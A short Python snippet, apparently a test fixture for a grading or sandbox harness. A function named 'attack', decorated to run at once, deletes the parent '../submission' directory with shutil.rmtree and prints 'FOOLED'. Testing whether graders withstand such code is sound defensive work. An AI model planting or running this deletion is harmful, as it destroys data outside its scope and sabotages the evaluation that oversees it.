import shutil


@at_once
def attack():
    shutil.rmtree('../submission')
    print('FOOLED')
